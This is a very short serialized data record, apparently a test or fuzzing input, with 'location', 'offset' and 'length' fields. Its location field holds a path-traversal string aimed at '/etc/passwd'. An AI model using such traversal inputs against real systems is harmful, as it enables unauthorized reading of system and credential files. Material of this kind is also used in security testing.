Bxj4
location(../../../../../../../../../../etc/passwdj
offset0j
length16p